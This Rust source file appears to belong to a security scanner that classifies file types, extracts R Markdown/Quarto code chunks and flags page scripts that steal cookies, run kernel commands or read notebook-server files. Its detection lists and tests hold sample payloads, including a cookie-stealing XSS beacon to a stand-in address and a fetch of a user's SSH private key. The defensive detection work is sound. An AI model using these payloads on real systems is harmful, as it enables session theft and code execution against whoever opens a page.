//! Scripts of web pages, as far as notebooks and pictures carry them: what the page of whoever opens them does.

/// Whether a file of this name is TOML.
#[must_use]
pub fn is_toml(file: &str) -> bool {
    let locks = ["uv.lock", "poetry.lock", "pdm.lock", "pixi.lock"];
    file.ends_with(".toml") || locks.contains(&file) || file == "pipfile"
}

/// Whether a file of this name holds settings in lines of keys and values; `path` is all of it, in lower case.
#[must_use]
pub fn is_settings(path: &str, file: &str) -> bool {
    const ENDINGS: [&str; 7] = [".cfg", ".ini", ".conf", ".properties", ".env", ".gin", ".cnf"];
    const NAMES: [&str; 8] =
        [".npmrc", ".yarnrc", ".env", "setup.cfg", ".flaskenv", ".wgetrc", "matplotlibrc", ".renviron"];
    let tool = [".dvc/config", "wandb/settings", ".mlflow/credentials", ".streamlit/config"];
    ENDINGS.iter().any(|end| file.ends_with(end))
        || NAMES.contains(&file)
        || tool.iter().any(|place| path.ends_with(place))
}

/// Whether a file of this name, in lower case, is a program in a language of which only command lines are read. Headers
/// and pages that only show something are left out.
#[must_use]
pub fn is_foreign_code(file: &str) -> bool {
    const ENDINGS: [&str; 67] = [
        "ts", "mts", "cts", "tsx", "jsx", "mjs", "cjs", "js", "vue", "svelte", "php", "php5", "phtml", "go",
        "c", "cc", "cpp", "cxx", "cu", "m", "mm", "rs", "java", "kt", "kts", "scala", "sc", "cs", "csx",
        "fs", "fsx", "vb", "vbs", "vbe", "wsf", "cmd", "bat", "ps1", "psm1", "psd1", "awk", "tcl", "groovy",
        "gradle", "swift", "dart", "clj", "cljs", "ex", "exs", "erl", "escript", "hs", "lhs", "ml", "nim",
        "zig", "cr", "rb", "pl", "pm", "raku", "el", "lisp", "scm", "mojo", "gemspec",
    ];
    const NAMES: [&str; 9] = [
        "gemfile",
        "rakefile",
        "podfile",
        "fastfile",
        "vagrantfile",
        "brewfile",
        "jakefile",
        "gulpfile",
        "gruntfile",
    ];
    let ending = file.rsplit_once('.').map_or("", |(_, ending)| ending);
    ENDINGS.contains(&ending) || NAMES.contains(&file)
}

/// The code between the fences of a text in Markdown.
#[must_use]
pub fn fenced(text: &str) -> String {
    let mut inside = false;
    let mut code = String::new();
    for line in text.lines().take(50_000) {
        if line.trim_start().starts_with("```") || line.trim_start().starts_with("~~~") {
            inside = !inside;
        } else if inside {
            code.push_str(line.trim_start_matches(['$', ' ']));
            code.push('\n');
        }
    }
    code
}

/// What a script in a page does that a figure has no need of; `None` for anything else.
///
/// Figures of plotting libraries are scripts too, and fetch their parts. What they never do is take what the
/// reader is signed in with, or run code in the reader's kernel.
#[must_use]
pub fn sends(page: &str) -> Option<&'static str> {
    let has = |part: &str| page.contains(part);
    let takes = ["document.cookie", "localStorage", "sessionStorage"].iter().any(|place| has(place));
    let sends = [
        "fetch(",
        "XMLHttpRequest",
        "sendBeacon",
        "new Image",
        "WebSocket(",
        ".src=",
        ".src =",
        "$.post",
        "$.get",
        "axios.",
    ]
    .iter()
    .any(|way| has(way));
    if has("document.cookie") && sends {
        return Some("sends the cookies of whoever opens it");
    }
    let elsewhere = has("http://") || has("https://") || has("//");
    if takes && sends && elsewhere && (has("token") || has("JSON.stringify(localStorage")) {
        return Some("sends what the browser keeps for whoever opens it");
    }
    let kernel = has(".kernel") && (has(".execute(") || has("requestExecute("));
    let runs = [
        "os.system",
        "subprocess",
        "!curl",
        "!wget",
        "exec(",
        "eval(",
        "atob(",
        "fromCharCode",
        "curl ",
        "wget ",
        "|sh",
        "import os",
        "import sub",
        "__import__",
        "os.popen",
    ];
    if kernel && runs.iter().any(|what| has(what)) {
        return Some("runs commands in the kernel of whoever opens it");
    }
    if has("eval(atob(") || has("Function(atob(") {
        return Some("runs a script that it decodes");
    }
    let bare = page.split("http://").skip(1).any(|rest| {
        let host = rest.split(['/', ':', '"', '\'']).next().unwrap_or("");
        host.split('.').count() == 4
            && host.bytes().all(|b| b.is_ascii_digit() || b == b'.')
            && !host.starts_with("127.")
    });
    let loads = has("createElement('script')") || has("createElement(\"script\")") || has("<script src");
    if bare && loads {
        return Some("runs a script that a bare address gives it");
    }
    let server = ["/api/contents", "/api/terminals", "/api/kernels", "/terminals/websocket"]
        .iter()
        .any(|way| has(way));
    let asks = has("fetch(") || has("XMLHttpRequest") || has("WebSocket(") || has("$.get") || has("axios");
    (server && asks).then_some("asks the notebook server of whoever opens it for files or programs")
}

/// Whether a file is a text whose chunks of code run when it is rendered.
#[must_use]
pub fn has_chunks(file: &str) -> bool {
    [".rmd", ".qmd", ".jmd", ".rnw", ".pmd"].iter().any(|end| file.ends_with(end))
}

/// The chunks of code of such a text: the language in lower case, and the lines.
#[must_use]
pub fn chunks(text: &str) -> Vec<(String, String)> {
    const MAX_CHUNKS: usize = 1_000;
    let mut found: Vec<(String, String)> = Vec::new();
    let mut open: Option<(String, String, String)> = None;
    let ends = |line: &str| matches!(line.trim_end(), "---" | "...");
    let mut header = text.starts_with("---") && text.lines().next().is_some_and(ends);
    for (number, line) in text.lines().enumerate() {
        let bare = line.trim_start();
        header &= number == 0 || !ends(line);
        if header && found.len() < MAX_CHUNKS {
            found.extend(tagged(bare));
        }
        if open.is_none() && found.len() < MAX_CHUNKS {
            found.extend(inline(bare).take(16).map(|code| ("r".to_owned(), format!("{code}\n"))));
        }
        if let Some((fence, language, mut code)) = open.take() {
            if bare.starts_with(&fence) {
                found.push((language, code));
            } else {
                code.push_str(line);
                code.push('\n');
                open = Some((fence, language, code));
            }
        } else if bare.starts_with("```") && found.len() < MAX_CHUNKS {
            let fence: String = bare.chars().take_while(|&c| c == '`').collect();
            // Only what stands in braces runs.
            let inside = bare.trim_start_matches('`').trim_start().strip_prefix('{');
            let language: Option<String> = inside.map(|inside| {
                let word = inside.trim_start_matches('.').split(|c: char| !c.is_alphanumeric()).next();
                word.unwrap_or("").to_ascii_lowercase()
            });
            if let Some(language) = language {
                open = Some((fence, language, String::new()));
            }
        }
    }
    found.extend(open.map(|(_, language, code)| (language, code)));
    found
}

/// A value of the header that R evaluates.
fn tagged(line: &str) -> Option<(String, String)> {
    let value =
        line.strip_prefix("- ").or_else(|| line.split_once(": ").map(|(_, value)| value))?.trim_start();
    let code = ["!r ", "!expr ", "!r\t", "!expr\t"].iter().find_map(|tag| value.strip_prefix(tag))?.trim();
    let quoted = ['"', '\''].iter().find_map(|&quote| code.strip_prefix(quote)?.strip_suffix(quote));
    Some(("r".to_owned(), format!("{}\n", quoted.unwrap_or(code))))
}

/// Code between single backquotes that R evaluates where the text is rendered.
fn inline(line: &str) -> impl Iterator<Item = &str> {
    // Whatever stands before it, as the pattern of knitr has it.
    let parts = if line.starts_with("```") { "" } else { line }.split('`').skip(1);
    parts.filter_map(|part| part.strip_prefix("r ").or_else(|| part.strip_prefix("{r} ")))
}

#[cfg(test)]
mod tests {
    use super::{chunks, sends};

    #[test]
    fn values_of_a_header_and_code_in_lines_are_evaluated_too() {
        let text = "---\ntitle: a `r x`\ndate: !expr Sys.Date()\nparams:\n  v: !r 'system(\"id\")'\n  w: r system\n---\n\
                    There are `r nrow(d)` rows and `code` of `r`.\n```r\n`r shown()`\n";
        let found = chunks(text);
        let expected = ["x\n", "Sys.Date()\n", "system(\"id\")\n", "nrow(d)\n"];
        assert_eq!(found[..4], expected.map(|code| ("r".to_owned(), code.to_owned())));
        assert_eq!(chunks("no header\nv: !r system('x')\n"), []);
    }

    #[test]
    fn chunks_that_run_are_told_from_those_that_are_shown() {
        let found =
            chunks("```{bash, echo=FALSE}\nls\n```\ntext\n```bash\nrm x\n```\n````{python}\na = 1\n````\n");
        let expected = [("bash", "ls\n"), ("python", "a = 1\n")];
        assert_eq!(found, expected.map(|(a, b)| (a.to_owned(), b.to_owned())));
    }

    #[test]
    fn figures_are_told_from_thieves() {
        assert!(sends("<img src=x onerror=\"fetch('http://192.0.2.7/' + document.cookie)\">").is_some());
        assert!(sends("new Image().src='//x.example/?' + document.cookie").is_some());
        assert!(sends("IPython.notebook.kernel.execute('import os; os.system(\"id\")')").is_some());
        assert!(
            sends("fetch('https://cdn.example/plotly.js'); localStorage.setItem('theme', 'dark')").is_none()
        );
        assert!(sends("document.cookie = 'a=1'").is_none());
        assert!(sends("const k = Jupyter.notebook.kernel; k.execute(atob('aWQ='))").is_some());
        assert!(sends("fetch('/api/contents/.ssh/id_rsa').then(r => r.text())").is_some());
        assert!(sends("fetch('/api/v1/points')").is_none());
        assert!(sends("IPython.notebook.kernel.execute('x = 3')").is_none());
    }
}
